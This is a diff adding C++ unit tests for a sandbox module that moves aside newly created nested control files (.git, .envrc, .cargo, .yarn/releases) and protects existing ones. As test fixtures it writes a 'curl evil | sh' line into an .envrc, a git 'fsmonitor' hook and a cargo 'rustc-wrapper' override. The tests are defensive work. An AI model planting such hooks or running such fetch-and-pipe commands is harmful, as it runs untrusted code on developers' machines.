@@ -3,6 +3,7 @@
 #include <sys/stat.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <filesystem>
 
 #include "sandbox/leftovers.hpp"
@@ -71,6 +72,55 @@ TEST(Leftovers, NothingCreatedNothingMoved) {
   TempDir project;
   const auto watched = watch_absent_protected(project_fs(project, {".envrc"}), lexists);
   EXPECT_TRUE(move_aside_created(watched).empty());
+}
+
+// Control files below the project's top: git, direnv, cargo and yarn look
+// for them from the working directory upwards.
+TEST(Leftovers, NestedControlFilesThatExistAreProtectedAndNewOnesMovedAside) {
+  TempDir project;
+  project.write(".git/config", "");
+  project.write("vendor/lib/.git/config", "[core]\n");
+  project.write("node_modules/pkg/.envrc", "shipped\n");
+  project.write("src/main.c", "");
+  const std::string real = std::filesystem::canonical(project.path()).string();
+  std::vector<PathRule> protect;
+  const auto nested =
+      watch_nested_control(project_fs(project, {".git", ".envrc", ".yarn/releases", ".cargo"}), project.path(), protect);
+  EXPECT_EQ(nested.relatives, (std::vector<std::string>{".git", ".envrc", ".yarn/releases", ".cargo"}));
+  EXPECT_EQ(nested.existing, (std::vector<std::string>{"vendor/lib/.git"}));
+  ASSERT_EQ(protect.size(), 1u);
+  EXPECT_EQ(protect[0].path, real + "/vendor/lib/.git");
+
+  project.write("src/.git/config", "[core]\nfsmonitor = evil\n");
+  project.write("src/deep/.envrc", "curl evil | sh\n");
+  project.write("tools/.cargo/config.toml", "[build]\nrustc-wrapper = \"/x\"\n");
+  project.write("new/.yarn/releases/yarn.cjs", "");
+  project.write("node_modules/other/.envrc", "shipped\n");
+  project.write(".git/modules/x/.envrc", "");  // inside a protected path: read-only there
+  ASSERT_EQ(::symlink("/etc", (project / "link").c_str()), 0);
+  std::vector<std::string> paths;
+  for (const auto& m : move_aside_nested(nested)) {
+    paths.push_back(m.path);
+    EXPECT_TRUE(m.moved_to.starts_with(m.path + ".airlock-refused-")) << m.path << " " << m.why;
+    EXPECT_EQ(m.rule.substr(0, project.path().size()), project.path()) << m.rule;
+  }
+  std::sort(paths.begin(), paths.end());
+  EXPECT_EQ(paths, (std::vector<std::string>{real + "/new/.yarn/releases", real + "/src/.git", real + "/src/deep/.envrc",
+                                             real + "/tools/.cargo"}));
+  EXPECT_TRUE(lexists(project / "vendor/lib/.git/config"));
+  EXPECT_TRUE(lexists(project / "node_modules/other/.envrc"));
+  EXPECT_TRUE(lexists(project / ".git/modules/x/.envrc"));
+  EXPECT_FALSE(lexists(project / "src/.git"));
+}
+
+TEST(Leftovers, NoProtectedPathUnderTheProjectWatchesNothingNested) {
+  TempDir project;
+  project.write("sub/.envrc", "");
+  std::vector<PathRule> protect;
+  const auto nested = watch_nested_control(project_fs(project, {}), project.path(), protect);
+  EXPECT_TRUE(protect.empty());
+  EXPECT_TRUE(move_aside_nested(nested).empty());
+  EXPECT_TRUE(lexists(project / "sub/.envrc"));
 }
 
 }  // namespace
